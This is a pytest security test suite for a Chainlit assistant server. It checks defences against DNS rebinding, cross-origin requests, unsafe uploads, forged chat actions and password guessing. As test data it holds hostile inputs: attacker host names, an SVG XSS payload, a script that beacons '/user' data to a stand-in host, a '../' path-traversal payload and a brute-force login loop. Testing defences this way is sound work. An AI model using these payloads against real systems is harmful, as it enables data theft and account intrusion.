"""Attacks on a real Chainlit server, made with httpx and a socket.io client as a hostile page or a
rebinding DNS name would make them. Each test also makes the same request the legitimate way and
checks it works, so a test fails if the attack goes through and cannot pass by refusing everything."""

from __future__ import annotations

import socket
import time
import uuid

import httpx
import pytest
import socketio

from assistant.accounts import save_user
from assistant.embedded import free_port
from tests.e2e.conftest import AppServer, make_app_root
from tests.fake_openai_server import FakeOpenAIServer, Script

SMALL, LARGE = "small-model", "large-model"
FOREIGN_ORIGINS = ["http://127.0.0.1:{other}", "http://localhost:{port}", "https://attacker.example", "null"]
STREAM_BODY = '{"prompt": "What does the router do?", "role": "small"}'


@pytest.fixture(scope="module")
def fake():
    with FakeOpenAIServer([SMALL, LARGE]) as server:
        server.default_script = Script(tokens=["The", " router", " routes", "."])
        yield server


def start_app(root, fake, **env) -> AppServer:
    server = AppServer(make_app_root(root), fake.base_url, SMALL, LARGE, extra_env=env)
    return server.start(timeout_s=120)


@pytest.fixture(scope="module")
def local_app(fake, tmp_path_factory):
    """The default single-user mode: header auth, loopback."""
    server = start_app(tmp_path_factory.mktemp("local") / "root", fake, ASSISTANT_UPLOAD_MAX_MB="1")
    yield server
    server.stop()


@pytest.fixture(scope="module")
def shared_app(fake, tmp_path_factory):
    """Password login for two users from a users file, sessions of two hours."""
    root = tmp_path_factory.mktemp("shared")
    users = root / "users.txt"
    save_user(users, "alice", "alice-password")
    save_user(users, "bob", "bob-password")
    server = start_app(root / "root", fake, ASSISTANT_USERS_FILE=str(users), ASSISTANT_SESSION_HOURS="2")
    yield server
    server.stop()


def local_cookies(app: AppServer) -> httpx.Cookies:
    response = httpx.post(app.url + "/auth/header", timeout=10)
    assert response.status_code == 200
    return response.cookies


def login(app: AppServer, name: str, password: str, *, source: str = "127.0.0.1") -> httpx.Response:
    with httpx.Client(transport=httpx.HTTPTransport(local_address=source), timeout=30) as client:
        return client.post(app.url + "/login", data={"username": name, "password": password})


def foreign_origins(app: AppServer) -> list[str]:
    return [o.format(other=free_port(), port=app.port) for o in FOREIGN_ORIGINS]


# ------------------------------------------------------------------------------------------------
# Host names (DNS rebinding)
# ------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("host", ["attacker.example:{port}", "127.0.0.1.attacker.example:{port}", "localhost.evil:{port}"])
def test_a_rebound_host_name_reads_nothing(local_app, host):
    host = host.format(port=local_app.port)
    cookies = local_cookies(local_app)
    for method, path in [("GET", "/"), ("GET", "/user"), ("POST", "/auth/header"), ("GET", "/demo/api/info"),
                         ("GET", "/ws/socket.io/?EIO=4&transport=polling")]:
        response = httpx.request(method, local_app.url + path, headers={"Host": host}, cookies=cookies, timeout=10)
        assert response.status_code == 400, (method, path, response.status_code)
        assert "set-cookie" not in response.headers
        assert "local" not in response.text  # no user, no page
    assert httpx.get(local_app.url + "/user", cookies=cookies, timeout=10).json()["identifier"] == "local"


def websocket_status(app: AppServer, host: str, origin: str | None = None) -> str:
    request = (f"GET /ws/socket.io/?EIO=4&transport=websocket HTTP/1.1\r\nHost: {host}\r\n"
               "Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
               "Sec-WebSocket-Version: 13\r\n" + (f"Origin: {origin}\r\n" if origin else "") + "\r\n")
    with socket.create_connection(("127.0.0.1", app.port), timeout=10) as conn:
        conn.sendall(request.encode())
        return conn.recv(1024).decode("latin-1").split("\r\n", 1)[0]


def test_the_socket_refuses_a_rebound_host_name_and_a_foreign_origin(local_app):
    own_host = f"127.0.0.1:{local_app.port}"
    assert " 101 " in websocket_status(local_app, own_host, f"http://{own_host}")  # the app's own page
    assert " 101 " not in websocket_status(local_app, f"attacker.example:{local_app.port}")
    for origin in foreign_origins(local_app):
        assert " 101 " not in websocket_status(local_app, own_host, origin), origin


# ------------------------------------------------------------------------------------------------
# Origins: CORS, simple requests, the socket handshake
# ------------------------------------------------------------------------------------------------


def test_a_foreign_origin_reads_nothing_and_gets_no_cors_grant(local_app):
    cookies = local_cookies(local_app)
    own = {"Origin": local_app.url}
    assert httpx.get(local_app.url + "/user", headers=own, cookies=cookies, timeout=10).status_code == 200
    for origin in foreign_origins(local_app):
        for method, path in [("GET", "/user"), ("POST", "/project/threads"), ("GET", "/demo/api/info"),
                             ("POST", "/auth/header"), ("GET", "/project/settings"), ("OPTIONS", "/user")]:
            headers = {"Origin": origin, "Content-Type": "application/json",
                       "Access-Control-Request-Method": "POST"}
            response = httpx.request(method, local_app.url + path, headers=headers, cookies=cookies,
                                     content=b'{"pagination": {"first": 20}, "filter": {}}'
                                     if method == "POST" else None, timeout=10)
            assert response.status_code == 403, (origin, method, path, response.status_code)
            assert "access-control-allow-origin" not in response.headers
            assert "access-control-allow-credentials" not in response.headers
            assert "set-cookie" not in response.headers
            assert "identifier" not in response.text and "roles" not in response.text


def test_a_cross_origin_text_plain_post_runs_no_model(local_app, fake):
    fake.requests.clear()
    cookies = local_cookies(local_app)
    for origin in foreign_origins(local_app):
        response = httpx.post(local_app.url + "/demo/api/stream", content=STREAM_BODY, cookies=cookies,
                              headers={"Origin": origin, "Content-Type": "text/plain"}, timeout=30)
        assert response.status_code == 403
    # Without an Origin header but marked cross-site by the browser (Sec-Fetch-Site), it is refused too.
    response = httpx.post(local_app.url + "/demo/api/stream", content=STREAM_BODY, cookies=cookies, timeout=30,
                          headers={"Content-Type": "text/plain", "Sec-Fetch-Site": "same-site", "Sec-Fetch-Mode": "no-cors"})
    assert response.status_code == 403
    assert fake.requests == [], "a cross-origin request ran the model"
    # The demo page's own request does run it.
    response = httpx.post(local_app.url + "/demo/api/stream", content=STREAM_BODY, timeout=60,
                          headers={"Origin": local_app.url, "Content-Type": "application/json"})
    assert response.status_code == 200 and "event: token" in response.text
    assert len(fake.requests) == 1


async def connect_socket(app: AppServer, cookies: httpx.Cookies, origin: str) -> socketio.AsyncClient:
    client = socketio.AsyncClient(reconnection=False)
    cookie_header = "; ".join(f"{name}={value}" for name, value in cookies.items())
    try:
        await client.connect(
            app.url, socketio_path="/ws/socket.io", transports=["websocket"], wait_timeout=15,
            headers={"Origin": origin, "Cookie": cookie_header},
            auth={"sessionId": str(uuid.uuid4()), "clientType": "webapp", "threadId": None, "userEnv": "{}",
                  "chatProfile": None},
        )
    except socketio.exceptions.ConnectionError:
        # A refused connection leaves engineio's aiohttp session open ("Unclosed client session" at exit).
        if client.eio.http is not None and not client.eio.http.closed:
            await client.eio.http.close()
        raise
    return client


async def test_a_foreign_origin_cannot_open_the_socket_even_with_the_cookie(local_app):
    cookies = local_cookies(local_app)
    own = await connect_socket(local_app, cookies, local_app.url)
    assert own.connected
    await own.disconnect()
    for origin in foreign_origins(local_app):
        with pytest.raises(socketio.exceptions.ConnectionError):
            client = await connect_socket(local_app, cookies, origin)
            await client.disconnect()


def test_every_cookie_is_samesite_strict_and_lives_the_configured_time(local_app, shared_app):
    response = httpx.post(local_app.url + "/auth/header", timeout=10)
    cookie = response.headers["set-cookie"].lower()
    assert "samesite=strict" in cookie and "samesite=lax" not in cookie
    assert "max-age=43200" in cookie  # the 12-hour default
    response = login(shared_app, "bob", "bob-password")
    assert response.status_code == 200
    cookie = response.headers["set-cookie"].lower()
    assert "samesite=strict" in cookie and "max-age=7200" in cookie  # ASSISTANT_SESSION_HOURS=2


# ------------------------------------------------------------------------------------------------
# Uploads and stored files
# ------------------------------------------------------------------------------------------------


async def test_chainlit_upload_endpoint_refuses_types_the_app_does_not_read(local_app):
    cookies = local_cookies(local_app)
    client = socketio.AsyncClient(reconnection=False)
    session_id = str(uuid.uuid4())
    await client.connect(
        local_app.url, socketio_path="/ws/socket.io", transports=["websocket"], wait_timeout=15,
        headers={"Origin": local_app.url, "Cookie": "; ".join(f"{k}={v}" for k, v in cookies.items())},
        auth={"sessionId": session_id, "clientType": "webapp", "threadId": None, "userEnv": "{}", "chatProfile": None},
    )
    try:
        def upload(name: str, mime: str, data: bytes) -> int:
            return httpx.post(local_app.url + "/project/file", params={"session_id": session_id}, cookies=cookies,
                              files={"file": (name, data, mime)}, timeout=30).status_code

        assert upload("notes.md", "text/markdown", b"# notes") == 200
        assert upload("notes.rst", "application/octet-stream", b"notes\n=====") == 200  # type unknown to the browser
        assert upload("setup.exe", "application/x-msdownload", b"MZ" * 100) == 400
        assert upload("setup.exe", "application/octet-stream", b"MZ" * 100) == 400
        assert upload("logo.svg", "image/svg+xml", b"<svg onload='alert(1)'/>") == 400
        assert upload("logo.svg", "text/plain", b"<svg onload='alert(1)'/>") == 400
        assert upload("page.html.exe", "text/html", b"<script>1</script>") == 400
    finally:
        await client.disconnect()


def test_stored_files_are_inert_attachments_and_need_a_login(shared_app):
    # Files of real threads (owner checks) are covered on PostgreSQL in tests/e2e/test_shared_server.py;
    # here, a file planted in the store with no element row is served to nobody.
    alice = login(shared_app, "alice", "alice-password").cookies
    key = f"unknown/{uuid.uuid4()}/page.html"
    path = shared_app.data_dir / "files" / key
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(b"<script>document.title='owned'</script>")
    assert httpx.get(shared_app.url + "/storage/" + key, timeout=10).status_code == 401
    assert httpx.get(shared_app.url + "/storage/" + key, cookies=alice, timeout=10).status_code == 404
    response = httpx.get(shared_app.url + "/storage/" + key, cookies=alice, timeout=10,
                         headers={"Origin": f"http://127.0.0.1:{free_port()}"})
    assert response.status_code == 403  # the user's cookie, sent by another page


# ------------------------------------------------------------------------------------------------
# Password mode: side routes behind the login, header auth off, throttling
# ------------------------------------------------------------------------------------------------


def test_side_routes_need_the_chat_login(shared_app, fake):
    fake.requests.clear()
    for method, path, body in [("GET", "/demo/api/info", None), ("POST", "/demo/api/stream", STREAM_BODY),
                               ("GET", "/demo/api/anything-added-later", None), ("GET", "/demo/model/model.gguf", None)]:
        response = httpx.request(method, shared_app.url + path, content=body, timeout=30,
                                 headers={"Content-Type": "application/json"})
        assert response.status_code == 401, (path, response.status_code)
    assert fake.requests == []
    assert httpx.post(shared_app.url + "/auth/header", timeout=10).status_code >= 400  # no login without a password
    cookies = login(shared_app, "alice", "alice-password").cookies
    assert httpx.get(shared_app.url + "/demo/api/info", cookies=cookies, timeout=30).status_code == 200
    response = httpx.post(shared_app.url + "/demo/api/stream", content=STREAM_BODY, cookies=cookies, timeout=60,
                          headers={"Content-Type": "application/json"})
    assert response.status_code == 200 and "event: done" in response.text
    assert len(fake.requests) == 1


def test_forty_wrong_passwords_are_throttled_per_address_and_per_account(shared_app):
    attempts = []  # (start time, status)
    for i in range(40):
        started = time.monotonic()
        attempts.append((started, login(shared_app, "alice", f"guess-{i}").status_code))
    burst_s = time.monotonic() - attempts[0][0]
    statuses = [status for _, status in attempts]
    assert set(statuses) <= {401, 429}
    checked = [start for start, status in attempts if status == 401]
    print(f"40 wrong passwords in {burst_s:.2f} s: {len(checked)} checked, {statuses.count(429)} refused unchecked")
    assert len(checked) >= 5 and statuses.count(429) >= 30
    # After five failures each further check waits for a lock that doubles: 1 s, 2 s, 4 s...
    for n in range(5, len(checked)):
        assert checked[n] - checked[n - 1] >= 2 ** (n - 5) * 0.95, f"check {n + 1} came too soon"

    # Right after a failure, the right password is not even checked from that address...
    while login(shared_app, "alice", "one more guess").status_code != 401:
        time.sleep(0.2)
    assert login(shared_app, "alice", "alice-password").status_code == 429
    # ...nor from another address while the account is locked; another account from there is fine.
    assert login(shared_app, "alice", "alice-password", source="127.0.0.2").status_code == 401
    assert login(shared_app, "bob", "bob-password", source="127.0.0.2").status_code == 200


def test_header_auth_is_never_offered_beyond_loopback(fake, tmp_path):
    """Bound to every address with no password login, the app refuses to start instead of giving every
    visitor the local user's session."""
    import subprocess
    import sys

    from tests.e2e.conftest import PROJECT

    server = AppServer(make_app_root(tmp_path / "root"), fake.base_url, SMALL, LARGE)
    process = subprocess.Popen(
        [sys.executable, "-m", "chainlit", "run", str(PROJECT / "app.py"), "--headless", "--host", "0.0.0.0",
         "--port", str(server.port)],
        cwd=server.root, env=server.env(), stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True,
    )
    try:
        output, _ = process.communicate(timeout=120)
    except subprocess.TimeoutExpired:
        process.kill()
        process.communicate()
        pytest.fail("the app started on 0.0.0.0 with header auth")
    assert process.returncode != 0
    assert "ASSISTANT_USERS_FILE" in output and "127.0.0.1" in output


class ChatSession:
    """One chat over the socket, as the browser's client drives it: messages, uploads, action clicks."""

    def __init__(self, app: AppServer, cookies: httpx.Cookies):
        self.app, self.cookies = app, cookies
        self.session_id = str(uuid.uuid4())
        self.client = socketio.AsyncClient(reconnection=False)
        self.messages: list[str] = []
        self.actions: list[dict] = []
        self.client.on("new_message", lambda data: self.messages.append(data.get("output", "")))
        self.client.on("update_message", lambda data: self.messages.append(data.get("output", "")))
        self.client.on("action", lambda data: self.actions.append(data))

    async def __aenter__(self) -> "ChatSession":
        await self.client.connect(
            self.app.url, socketio_path="/ws/socket.io", transports=["websocket"], wait_timeout=15,
            headers={"Origin": self.app.url, "Cookie": "; ".join(f"{k}={v}" for k, v in self.cookies.items())},
            auth={"sessionId": self.session_id, "clientType": "webapp", "threadId": None, "userEnv": "{}",
                  "chatProfile": None},
        )
        await self.client.emit("connection_successful")
        return self

    async def __aexit__(self, *exc) -> None:
        await self.client.disconnect()

    async def wait_for(self, text: str, timeout_s: float = 60) -> None:
        import asyncio

        deadline = time.monotonic() + timeout_s
        # Names in messages are markdown-escaped ("private\\-notes\\.md"): compare without the escapes.
        while not any(text in m.replace("\\", "") for m in self.messages):
            assert time.monotonic() < deadline, f"no message with {text!r}; got {self.messages[-5:]}"
            await asyncio.sleep(0.1)

    def upload(self, name: str, data: bytes, mime: str) -> httpx.Response:
        return httpx.post(self.app.url + "/project/file", params={"session_id": self.session_id},
                          cookies=self.cookies, files={"file": (name, data, mime)}, timeout=30)

    async def send(self, text: str, files: list[tuple[str, bytes, str]] = ()) -> None:
        refs = []
        for name, data, mime in files:
            response = self.upload(name, data, mime)
            assert response.status_code == 200, response.text
            refs.append({"id": response.json()["id"]})
        message = {"id": str(uuid.uuid4()), "threadId": "", "name": "User", "type": "user_message", "output": text,
                   "createdAt": time.strftime("%Y-%m-%dT%H:%M:%S.000Z", time.gmtime())}
        await self.client.emit("client_message", {"message": message, "fileReferences": refs})

    def click(self, action: dict) -> httpx.Response:
        return httpx.post(self.app.url + "/project/action", cookies=self.cookies, timeout=60,
                          json={"sessionId": self.session_id, "action": action})


async def test_another_session_cannot_publish_a_chats_private_upload(local_app):
    cookies = local_cookies(local_app)
    shared = local_app.knowledge_dir / "uploads"
    async with ChatSession(local_app, cookies) as owner, ChatSession(local_app, cookies) as other:
        await other.wait_for("Answers come from your documents")
        await owner.wait_for("Answers come from your documents")
        await owner.send("", files=[("private-notes.md", b"# Private\n\nThe vault code is 4711.\n", "text/markdown")])
        await owner.wait_for("private-notes.md** is ready for this conversation")
        share = next(a for a in owner.actions if a["name"] == "share_document")
        assert "path" not in share["payload"] and "/" not in share["payload"]["upload"]  # a server-side id only

        # The other conversation clicks the owner's action (same payload), then a forged one with the file's path.
        stored = next((local_app.data_dir / "uploads").rglob("*private-notes.md"))
        assert other.click(share).status_code == 200
        forged = {**share, "payload": {"name": "private-notes.md", "path": str(stored), "upload": f"../{stored.parent.name}/{stored.name}"}}
        assert other.click(forged).status_code == 200
        await other.wait_for("That upload is not available any more")
        assert not shared.exists() or not any(shared.iterdir()), "another session published the upload"

        # The owner's own click does publish it.
        assert owner.click(share).status_code == 200
        await owner.wait_for("is now shared knowledge")
        assert [p.read_text() for p in shared.iterdir()] == ["# Private\n\nThe vault code is 4711.\n"]


async def test_an_over_size_upload_is_never_stored_and_an_html_upload_is_served_inert(local_app):
    import asyncio

    cookies = local_cookies(local_app)
    big = b"# Big\n\n" + b"word " * 300_000  # 1.5 MB: under Chainlit's cap, over ASSISTANT_UPLOAD_MAX_MB=1
    page = (b"<!doctype html><p>Quarterly notes: the margin target is nine percent.</p>"
            b"<script>fetch('/user').then(r => r.text()).then(t => navigator.sendBeacon('//x', t))</script>")
    async with ChatSession(local_app, cookies) as chat:
        await chat.wait_for("Answers come from your documents")
        refused = chat.upload("big-notes.md", big, "text/markdown")  # the upload endpoint refuses it, naming it
        assert refused.status_code == 400 and "big-notes.md" in refused.text and "limit" in refused.text
        await chat.send("", files=[("page.html", page, "text/html")])
        await chat.wait_for("page.html** is ready for this conversation")
        files_root = local_app.data_dir / "files"
        deadline = time.monotonic() + 30
        while not list(files_root.rglob("page.html")):  # elements are stored in the background
            assert time.monotonic() < deadline, "the accepted upload was never stored"
            await asyncio.sleep(0.2)
        await asyncio.sleep(1)
        assert not list(files_root.rglob("big-notes.md")), "the over-size upload was stored"

        key = next(files_root.rglob("page.html")).relative_to(files_root).as_posix()
        deadline = time.monotonic() + 30
        while (response := httpx.get(f"{local_app.url}/storage/{key}", cookies=cookies, timeout=10)).status_code == 404:
            assert time.monotonic() < deadline, "the owner cannot read their stored file"
            await asyncio.sleep(0.5)  # the element row and its thread are written in the background
        assert response.status_code == 200 and response.content == page
        assert response.headers["content-type"] == "application/octet-stream"
        assert response.headers["content-disposition"].startswith("attachment;")
        assert response.headers["x-content-type-options"] == "nosniff"
        assert "sandbox" in response.headers["content-security-policy"]
